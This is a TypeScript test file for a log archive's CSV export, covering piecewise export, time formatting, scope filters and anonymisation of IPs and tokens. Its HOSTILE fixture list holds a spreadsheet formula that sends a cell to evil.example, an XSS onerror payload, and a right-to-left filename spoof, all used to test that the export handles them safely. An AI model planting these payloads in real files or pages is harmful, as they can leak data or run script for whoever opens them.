import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { LocalArchive } from '../../../src/archive/localArchive.ts';
import type { EntriesWanted } from '../../../src/contract/eventExport.ts';
import { RECEIVED_AS } from '../../../src/table/export/receivedAs.ts';
import { newFile, pageOf } from '../pages.ts';

const KEY = 'a key of this computer';
const FIELDS = ['id', 'Client IP', 'URL', 'User Agent', 'Epoch Time'];
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '<img src=x onerror=alert(1)>',
  '\u001b[31mred\u001b[0m',
  'safe\u202egpj.exe',
  'two\r\nlines, and "quotes"',
  'a'.repeat(65_536),
  '',
];
const entry = (index: number, agent: string) =>
  JSON.stringify({
    id: `id${index}`,
    'Client IP': `192.0.2.${index % 200}`,
    URL: `https://shop.example/login?token=secret${index}`,
    'User Agent': agent,
    'Epoch Time': 1_700_000_000 + index,
  });

async function filled(entries: readonly string[]): Promise<LocalArchive> {
  const { archive } = LocalArchive.open(newFile());
  await add(archive, entries, 1);
  return archive;
}
async function add(archive: LocalArchive, entries: readonly string[], page: number): Promise<void> {
  const range = { fromSecond: 0, toSecond: 4_000_000_000, filters: null };
  const { id: slice } = await archive.begin(range, 1_000, 1);
  await archive.put({ slice, page, text: pageOf(entries), receivedAtMs: 1 });
}

const WANTED: EntriesWanted = {
  run: 'run',
  scope: { fromMicros: null, beforeMicros: null, filter: [] },
  order: 'oldest',
  ids: null,
  fields: FIELDS,
  offset: 0,
  anonymous: null,
};

/** Every piece, as one table. */
async function rowsOf(archive: LocalArchive, wanted: Partial<EntriesWanted>, between = async () => {}) {
  let [text, offset, pieces] = ['', 0, 0];
  for (;;) {
    const piece = await archive.lines({ ...WANTED, ...wanted, offset }, KEY);
    text += piece.text;
    offset += piece.entries;
    pieces += 1;
    if (offset >= piece.all) break;
    await between();
  }
  const { data, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(errors).toEqual([]);
  // The last column says how the values were received.
  expect(data[0]?.at(-1)).toBe(RECEIVED_AS);
  const [header, ...rows] = data.map((cells) => cells.slice(0, -1));
  return { header, rows, marks: data.slice(1).map((cells) => cells.at(-1)), pieces };
}

describe('entries as lines', () => {
  test('are whole, whatever an attacker wrote', async () => {
    const archive = await filled(HOSTILE.map((agent, index) => entry(index, agent)));
    const { header, rows } = await rowsOf(archive, {});
    expect(header).toEqual(FIELDS);
    expect(rows.map((row) => row[3])).toEqual(HOSTILE);
    expect(rows[0]).toEqual([
      'id0',
      '192.0.2.0',
      'https://shop.example/login?token=secret0',
      HOSTILE[0],
      '1700000000',
    ]);
  });

  test('are those of the moment at which the export began, in pieces', async () => {
    const long = 'x'.repeat(20_000);
    const archive = await filled(Array.from({ length: 150 }, (_, index) => entry(2 * index, long)));
    let more = 1;
    const { rows, pieces } = await rowsOf(archive, {}, async () => {
      await add(archive, [entry(more, 'late')], 2);
      more += 2;
    });
    expect(pieces).toBeGreaterThan(2);
    expect(rows.map(([id]) => id)).toEqual(Array.from({ length: 150 }, (_, index) => `id${2 * index}`));
    expect((await rowsOf(archive, { run: 'later' })).rows.length).toBeGreaterThan(150);
  });

  test('have the time as the screen has it', async () => {
    const archive = await filled([entry(0, 'x'), '{"id":"never"}']);
    const { header, rows } = await rowsOf(archive, { fields: ['(time)', 'id'] });
    expect(header).toEqual(['Time', 'id']);
    expect(rows).toContainEqual(['2023-11-14T22:13:20.000000Z', 'id0']);
    expect(rows).toContainEqual(['', 'never']);
  });

  test('say how their values were received, and of anonymous ones only what is left', async () => {
    const archive = await filled([
      String.raw`{"id":"i\u0064","Client IP":null,"URL":"\/a","User Agent":{"a":1},"Epoch Time":1700000000.5}`,
      '{"id":5,"Client IP":"192.0.2.7","Epoch Time":"1700000001"}',
    ]);
    const said = await rowsOf(archive, { fields: ['(time)', ...FIELDS] });
    expect(said.marks).toEqual([`stn/bb\n${String.raw`"i\u0064"`}`, 'sbs--s']);
    const anonymous = { addresses: 'hashed', hosts: true, others: true } as const;
    const left = await rowsOf(archive, { run: 'a', fields: ['(time)', ...FIELDS], anonymous });
    expect(left.marks).toEqual(['ssnssb', 'sss--s']);
  });

  test('are those of a scope, or only chosen ones', async () => {
    const archive = await filled(Array.from({ length: 10 }, (_, index) => entry(index, 'x')));
    const scope = { fromMicros: 1_700_000_003e6, beforeMicros: 1_700_000_006e6, filter: [] };
    const ids = async (wanted: Partial<EntriesWanted>) =>
      (await rowsOf(archive, wanted)).rows.map(([id]) => id);
    expect(await ids({ scope })).toEqual(['id3', 'id4', 'id5']);
    expect(await ids({ run: 'b', ids: ['id9', 'id4', 'nobody'] })).toEqual(['id4', 'id9']);
    expect(await ids({ run: 'c', scope, ids: ['id9', 'id4'] })).toEqual(['id4']);
    expect(await ids({ run: 'd', scope, order: 'newest' })).toEqual(['id5', 'id4', 'id3']);
  });

  test('hold no address and no query where they are anonymous', async () => {
    const archive = await filled([entry(7, 'for 192.0.2.7'), entry(207, 'x'), entry(8, 'x')]);
    const anonymous = { addresses: 'hashed', hosts: false, others: false } as const;
    const { rows } = await rowsOf(archive, { anonymous });
    expect(JSON.stringify(rows)).not.toMatch(/192\.0\.2|secret|token|id7/);
    const hashes = rows.map((row) => row[1] ?? '');
    // Entry 207 has the address of entry 7; the key decides about the hash.
    expect(hashes[2]).toBe(hashes[0]);
    expect(hashes[1]).not.toBe(hashes[0]);
    expect(hashes.every((hash) => /^h[0-9a-f]{20}$/.test(hash))).toBe(true);
    const filter = [
      { field: 'Client IP', test: { kind: 'is' as const, values: ['192.0.2.7'] }, negated: false },
    ];
    const filtered = await archive.lines(
      { ...WANTED, run: 'f', scope: { ...WANTED.scope, filter }, anonymous },
      KEY,
    );
    expect(JSON.stringify(filtered.filter)).toContain(hashes[0]);
    expect(JSON.stringify(filtered.filter)).not.toContain('192');
    const other = await archive.lines({ ...WANTED, run: 'other', anonymous }, 'another key');
    expect(other.text).not.toContain(hashes[0]);
    const shortened = await rowsOf(archive, {
      run: 'short',
      anonymous: { ...anonymous, addresses: 'shortened' },
    });
    expect(shortened.rows[0]?.slice(1, 3)).toEqual(['192.0.2.0/24', '/login']);
  });

  test('are not mixed with others once some have been removed', async () => {
    const archive = await filled(Array.from({ length: 150 }, (_, index) => entry(index, 'x'.repeat(20_000))));
    const first = await archive.lines(WANTED, KEY);
    await archive.wipe(0, 1_700_000_010e6);
    await expect(archive.lines({ ...WANTED, offset: first.entries }, KEY)).rejects.toThrow('cancelled');
  });
});
